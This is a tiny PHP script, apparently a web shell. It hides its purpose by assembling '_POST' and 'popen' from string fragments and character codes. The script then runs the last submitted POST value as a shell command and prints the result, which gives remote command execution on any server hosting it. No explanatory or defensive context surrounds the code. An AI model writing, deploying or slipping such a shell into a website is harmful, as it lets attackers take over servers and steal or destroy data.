<?php
$g = sprintf('%s%s%s', '_', 'PO', 'ST');
$in = ${$g};
$f = implode('', array_map('chr', [112, 111, 112, 101, 110]));
$h = $f(end($in), 'r');
while (!feof($h)) { echo fgets($h); }
